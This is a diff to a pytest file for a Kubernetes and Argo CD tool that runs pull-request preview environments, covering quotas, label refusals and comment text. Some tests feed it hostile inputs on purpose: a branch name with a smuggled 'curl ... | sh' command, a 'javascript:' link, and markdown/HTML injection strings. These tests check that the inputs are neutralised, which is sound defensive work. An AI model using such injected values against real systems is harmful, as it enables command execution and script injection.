@@ -1,12 +1,14 @@
 """Environments of pull requests: what the stack creates, and which pull requests may keep one."""
 
 import base64
+import itertools
 import json
 import re
 import shlex
-from collections.abc import Mapping
+from collections.abc import Mapping, Sequence
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from fnmatch import fnmatchcase
 from pathlib import Path
 from typing import Any, cast
 
@@ -99,8 +101,8 @@ def test_a_sync_that_fails_ends_soon_for_only_then_its_application_can_be_delete
 ) -> None:
     for name in ("limits-set", "applications-set"):
         policy = spec(result, "ApplicationSet", name)["template"]["spec"]["syncPolicy"]
-        assert 0 < policy["retry"]["limit"] * 10 <= 40
-        assert policy["retry"]["backoff"]["maxDuration"] == "10s"
+        longest = int(policy["retry"]["backoff"]["maxDuration"].removesuffix("s"))
+        assert 0 < policy["retry"]["limit"] * longest <= 40
 
 
 def test_github_is_asked_with_a_token_that_is_a_secret_and_hardly_ever_by_polling(
@@ -172,7 +174,8 @@ def test_the_branch_changes_neither_its_limits_nor_roles_nor_argocd(result: Run)
     }
     limits = spec(result, "AppProject", "limits")
     assert limits["clusterResourceWhitelist"] == [
-        {"group": "", "kind": "Namespace", "name": "pr-*"}
+        {"group": "", "kind": "Namespace", "name": name}
+        for name in ("pr-*", "doks-gitops-pull-requests")
     ]
     kinds = [kind["kind"] for kind in limits["namespaceResourceWhitelist"]]
     assert kinds == ["ResourceQuota", "LimitRange"]
@@ -212,9 +215,43 @@ def test_the_limits_are_the_stack_s_and_come_from_the_branch_of_the_stack(result
     assert binding["paramRef"] == {"name": values["name"], "parameterNotFoundAction": "Deny"}
     # The policies are there before the first namespace.
     first = result.one("ApplicationSet", "pull-requests-limits-set")
-    for kind in ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"):
+    kinds = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding", "ResourceQuota")
+    for kind in kinds:
         for item in result.all(kind):
             assert item.urn in result.dependencies(first)
+
+
+def test_kubernetes_counts_the_places_of_the_stack(
+    monkeypatch: pytest.MonkeyPatch, result: Run
+) -> None:
+    section = {**SECTION, "atOnce": 7}
+    run = platform(monkeypatch, config={**STACK, "doks-gitops:pullRequests": section})
+    quota = run.one("ResourceQuota").inputs
+    assert quota["spec"]["hard"] == {"count/limitranges": "7"}
+    source = spec(run, "ApplicationSet", "limits-set")["template"]["spec"]["source"]
+    values = source["helm"]["valuesObject"]
+    assert (
+        values["places"]
+        == quota["metadata"]["namespace"]
+        == run.one("Namespace", "pull-requests-places").inputs["metadata"]["name"]
+    )
+    # Not in the namespaces of the pull requests, whose commits could take places themselves.
+    assert not fnmatchcase(values["places"], "pr-*")
+
+
+def test_the_chart_takes_a_place_before_it_makes_the_namespace() -> None:
+    place, namespace, *_ = (CHART / "templates" / "limits.yaml").read_text().split("---\n")
+    assert "namespace: {{ .Values.places }}" in place
+    assert 'argocd.argoproj.io/sync-wave: "-1"' in place
+    assert "kind: Namespace" in namespace
+
+
+def test_the_namespace_is_not_that_of_the_destination_which_comes_before_every_wave(
+    result: Run,
+) -> None:
+    template = spec(result, "ApplicationSet", "limits-set")["template"]["spec"]
+    assert template["source"]["helm"]["namespace"] == "pr-{{.number}}"
+    assert template["destination"]["namespace"] == "doks-gitops-pull-requests"
 
 
 def test_the_policies_leave_alone_what_is_in_no_namespace(result: Run) -> None:
@@ -233,7 +270,7 @@ def test_the_environments_are_gone_before_argocd_which_deletes_them(result: Run)
 def test_all_of_it_is_deleted_before_the_cluster_is_replaced(result: Run) -> None:
     cluster = result.one("KubernetesCluster").urn
     own = [item for item in result.of_packages("kubernetes") if "pull-requests" in item.name]
-    assert len(own) == 11
+    assert len(own) == 13
     for item in own:
         assert cluster in item.input_dependencies["metadata"], item.name
 
@@ -270,22 +307,58 @@ def pull(
     return Labeled(pull_request, NOW - timedelta(hours=hours), own)
 
 
+def refused(
+    *pull_requests: Labeled, limits: Sequence[Application] = (), at_once: int = 5
+) -> dict[int, str]:
+    settings = SETTINGS.model_copy(update={"at_once": at_once})
+    return refusals(pull_requests, settings, NOW, {item.name: item for item in limits})
+
+
 def test_a_pull_request_keeps_its_label_for_its_time_to_live() -> None:
-    reasons = refusals([pull(1, hours=24.1), pull(2, hours=23.9)], SETTINGS, NOW)
+    reasons = refused(pull(1, hours=24.1), pull(2, hours=23.9))
     assert [*reasons] == [1]
     assert "24 hours" in reasons[1]
 
 
-def test_only_so_many_pull_requests_keep_their_label_and_the_first_ones_do() -> None:
-    settings = SETTINGS.model_copy(update={"at_once": 2})
-    assert [*refusals([pull(number) for number in (1, 2, 3, 4)], settings, NOW)] == [3, 4]
+NO_PLACE = (
+    'one or more objects failed to apply, reason: limitranges "pr-3" is forbidden: exceeded quota:'
+    " doks-gitops-pull-requests, requested: count/limitranges=1, used: count/limitranges=2,"
+    " limited: count/limitranges=2"
+)
+
+
+def limits(number: int, **changes: Any) -> Application:
+    return application(name=f"pr-{number}-limits", **changes)
+
+
+def test_who_gets_a_place_is_what_kubernetes_says_and_not_who_has_the_label_first() -> None:
+    missing = {"sync": "OutOfSync", "message": NO_PLACE}
+    without = limits(1, phase="Failed", **missing)
+    others = [limits(2), limits(3)]
+    pull_requests = [pull(number) for number in (1, 2, 3)]
+    reasons = refused(*pull_requests, limits=[without, *others], at_once=2)
+    assert [*reasons] == [1]
+    assert "there are 2 environments already" in reasons[1]
+    # A place may be free again before Argo CD has tried for the last time.
+    tries = replace(without, phase="Running")
+    assert refused(*pull_requests, limits=[tries, *others], at_once=2) == {}
+    assert text(tries, application(sync="OutOfSync"), kept=pull(1)).startswith(
+        "pending: `pr-1` waits for a place."
+    )
+
+
+def test_the_first_ones_keep_their_label_if_the_stack_is_given_fewer_places() -> None:
+    pull_requests = [pull(number) for number in (1, 2, 3, 4)]
+    all_limits = [limits(number) for number in (1, 2, 3, 4)]
+    assert [*refused(*pull_requests, limits=all_limits, at_once=2)] == [3, 4]
     # One that is refused for another reason takes no place.
-    assert [*refusals([pull(1, hours=25), pull(2), pull(3)], settings, NOW)] == [1]
+    first = pull(1, hours=25)
+    assert [*refused(first, pull(2), pull(3), limits=all_limits, at_once=2)] == [1]
 
 
 def test_a_fork_has_no_environment_unless_its_commit_is_in_a_branch_of_the_repository() -> None:
     unapproved, approved = pull(1, fork="stranger/monorepo", own=None), pull(2, fork="x/monorepo")
-    reasons = refusals([unapproved, approved], SETTINGS, NOW)
+    reasons = refused(unapproved, approved)
     assert [*reasons] == [1]
     assert f"git push origin {'a' * 40}:refs/heads/branch-1\n" in reasons[1]
 
@@ -293,13 +366,13 @@ def test_a_fork_has_no_environment_unless_its_commit_is_in_a_branch_of_the_repos
 def test_a_commit_of_a_fork_is_never_to_be_pushed_to_a_branch_that_the_repository_has() -> None:
     """The fork's branch is often called main."""
     unapproved = pull(1, fork="stranger/monorepo", own="b" * 40)
-    assert "git push" not in refusals([unapproved], SETTINGS, NOW)[1]
+    assert "git push" not in refused(unapproved)[1]
 
 
 def test_a_branch_name_of_a_fork_is_no_command_for_the_shell_of_who_approves_it() -> None:
     unapproved = pull(1, fork="stranger/monorepo", own=None)
     hostile = replace(unapproved.pull_request, branch="a;curl${IFS}host|sh")
-    reason = refusals([replace(unapproved, pull_request=hostile)], SETTINGS, NOW)[1]
+    reason = refused(replace(unapproved, pull_request=hostile))[1]
     [command] = re.findall(r"^\$ (git push .*)$", reason, re.MULTILINE)
     assert shlex.split(command)[-1] == f"{'a' * 40}:refs/heads/a;curl${{IFS}}host|sh"
 
@@ -317,13 +390,16 @@ def application(**changes: Any) -> Application:
     return Application(**{**fields, **changes})
 
 
-CLUSTER = Cluster(Path(), Path(), "argocd", "do-nyc1-demo")
-
-
-def text(*applications: Application, kept: Labeled | None, reason: str | None = None) -> str:
+def text(
+    *applications: Application,
+    kept: Labeled | None,
+    reason: str | None = None,
+    refused_pods: Sequence[str] = (),
+) -> str:
     by_name = {item.name: item for item in applications}
     settings = SETTINGS.model_copy(update={"service": "frontend"})
-    result = report(1, kept, reason, by_name, CLUSTER, settings)
+    cluster = cast(Cluster, FakeCluster([], refused_pods=refused_pods))
+    result = report(1, kept, reason, by_name, cluster, settings)
     return f"{'settled' if result.settled else 'pending'}: {result.text}"
 
 
@@ -338,8 +414,85 @@ def test_the_comment_tells_the_state_how_to_reach_it_and_when_it_ends() -> None:
 def test_an_environment_of_an_older_commit_is_not_the_one_that_was_asked_for() -> None:
     told = text(application(revision="b" * 40, errors=("no such\npath",)), kept=pull(1))
     assert told.startswith("pending: `pr-1` waits for aaaaaaa.")
-    assert "    no such\n    path" in told
+    assert "\n```text\nno such\npath\n```\n" in told
     assert text(application(health="Degraded"), kept=pull(1)).startswith("pending")
+
+
+def test_an_overlay_that_asks_for_more_than_the_quota_is_told_so_with_the_amounts() -> None:
+    exceeded = (
+        "forbidden: exceeded quota: pull-request, requested: limits.memory=5Gi,pods=1, used:"
+        " limits.memory=512Mi,pods=3, limited: limits.memory=4Gi,pods=3"
+    )
+    progressing = application(health="Progressing", message="successfully synced")
+    told = text(progressing, kept=pull(1), refused_pods=[f'pods "a" is {exceeded}'])
+    assert told.startswith("pending: `pr-1` is **Progressing**")
+    assert "asks for more than the quota of an environment.** Ask for less" in told
+    assert "- `limits.memory`: 5Gi more than the 512Mi that are in use, of 4Gi\n" in told
+    assert "- `pods`: 1 more than the 3 that are in use, of 3\n" in told
+    assert "forbidden" not in told
+    # Services and claims are refused to Argo CD itself.
+    failed = application(health="Missing", message=f'services "a" is {exceeded}. Retrying attempt')
+    assert "- `pods`: 1 more" in text(failed, kept=pull(1))
+    assert "more" not in text(application(message=exceeded), kept=pull(1))
+    hostile = exceeded.replace("pods=1", "`@team`=<b>")
+    assert "@team" not in text(progressing, kept=pull(1), refused_pods=[hostile])
+
+
+def test_an_error_that_a_commit_has_written_stays_inside_its_block() -> None:
+    error = "no such file: ```\n</details> @team\n- [x](https://a.test)"
+    exceeded = "exceeded quota: pull-request, requested: pods=1, used: pods=3, limited: pods=3"
+    told = text(
+        application(health="Degraded", errors=(error,)), kept=pull(1), refused_pods=[exceeded]
+    )
+    assert f"\n\n````text\n{error}\n````\n\n" in told
+
+
+def test_pods_that_are_refused_for_another_reason_are_told_once() -> None:
+    baseline = 'pods "a" is forbidden: violates PodSecurity "baseline:latest": host namespaces'
+    told = text(application(health="Progressing"), kept=pull(1), refused_pods=[baseline, baseline])
+    assert told.count(baseline) == 1
+
+
+def test_only_what_kubernetes_refuses_at_present_counts(monkeypatch: pytest.MonkeyPatch) -> None:
+    items: list[dict[str, Any]] = []
+    versions = itertools.count(9)
+    for kind, uid, fails, *reasons in (
+        ("ReplicaSet", "refused", True, "SuccessfulCreate", "FailedCreate", "FailedCreate"),
+        ("ReplicaSet", "scaled-down", False, "FailedCreate"),
+        ("StatefulSet", "refused-too", False, "SuccessfulCreate", "FailedCreate"),
+        ("StatefulSet", "mended", False, "FailedCreate", "SuccessfulCreate"),
+        ("", "deleted", False, "FailedCreate"),
+    ):
+        condition = {"type": "ReplicaFailure", "status": str(fails), "message": "the first one"}
+        if kind:
+            status = {"conditions": [condition]}
+            items.append({"kind": kind, "metadata": {"uid": uid}, "status": status})
+        items += [
+            {
+                "kind": "Event",
+                "metadata": {"resourceVersion": str(next(versions))},
+                "reason": reason,
+                "message": f"{uid}, event {number}",
+                "lastTimestamp": "2026-03-01T00:00:00Z",
+                "involvedObject": {"uid": uid},
+            }
+            for number, reason in enumerate(reasons)
+        ]
+    monkeypatch.setattr(
+        "doks_gitops.promotion.cluster._kubectl",
+        lambda folder, *words: json.dumps({"items": items[::-1]}),
+    )
+    cluster = Cluster(Path(), Path(), "argocd", "do-nyc1-demo")
+    assert cluster.refused_pods("pr-1") == ["refused, event 2", "refused-too, event 1"]
+
+
+def test_a_link_of_a_pull_request_is_a_link_and_nothing_else() -> None:
+    """Argo CD takes them from annotations, too."""
+    urls = ("javascript:alert(1)", "https://a.test> @team <b>", "https://b.test")
+    told = text(application(urls=urls), kept=pull(1))
+    assert "<https://b.test>" in told
+    assert "alert" not in told
+    assert "@team" not in told
 
 
 def test_an_environment_is_gone_only_when_its_limits_are_gone_too() -> None:
@@ -386,13 +539,21 @@ class FakeCluster:
 
     context = "do-nyc1-demo"
 
-    def __init__(self, *moments: list[Application]) -> None:
+    def __init__(self, *moments: list[Application], refused_pods: Sequence[str] = ()) -> None:
         self._moments = [*moments]
+        self._refused_pods = refused_pods
         self.errors: dict[str, str] = {}
+        self.refreshed: list[Sequence[str]] = []
+
+    def refresh(self, application_sets: Sequence[str]) -> None:
+        self.refreshed.append(application_sets)
+
+    def refused_pods(self, namespace: str) -> Sequence[str]:
+        return self._refused_pods
 
     def delivery(self) -> Delivery:
         moment = self._moments.pop(0) if len(self._moments) > 1 else self._moments[0]
-        return Delivery(moment, self.errors)
+        return Delivery(moment, self.errors, ["dev-pull-requests-limits"])
 
 
 def reviewed(
@@ -436,6 +597,41 @@ def test_every_refused_pull_request_loses_its_label_whichever_one_is_told_of(
     everybody = FakeRepository(recent(1), recent(2, fork="stranger/monorepo", own=None))
     reviewed(everybody, FakeCluster([application()]), monkeypatch)
     assert [number for number, _ in everybody.comments] == [1, 2]
+
+
+def test_a_pull_request_without_a_place_loses_its_label_while_its_run_waits(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    repository = FakeRepository(recent(3))
+    tries = limits(3, sync="OutOfSync", phase="Running", message=NO_PLACE)
+    cluster = FakeCluster([tries], [replace(tries, phase="Failed")], [])
+    result = reviewed(repository, cluster, monkeypatch, number=3, wait=60)
+    assert repository.removed == [3]
+    beginnings = [told.partition(".")[0].partition(":")[0] for _, told in repository.comments]
+    assert beginnings == [
+        "`pr-3` waits for a place",
+        "The environment is being removed",
+        "There is no environment",
+    ]
+    assert result.reports[0].settled
+
+
+@pytest.mark.parametrize(
+    ("first", "times"),
+    [
+        ([], 1),
+        ([application()], 1),
+        ([application(health="Missing"), limits(1), limits(2)], 1),
+        ([application(health="Missing"), limits(1)], 0),
+    ],
+)
+def test_argocd_reads_the_labels_again_if_it_has_missed_one(
+    first: list[Application], times: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Of two labels that are set at the same moment, or one that is taken away."""
+    cluster = FakeCluster(first, first, [application(), limits(1)])
+    reviewed(FakeRepository(recent(1)), cluster, monkeypatch, wait=60)
+    assert cluster.refreshed == [["dev-pull-requests-limits"]] * times
 
 
 def test_an_environment_that_nothing_asks_for_is_told_until_it_is_gone(
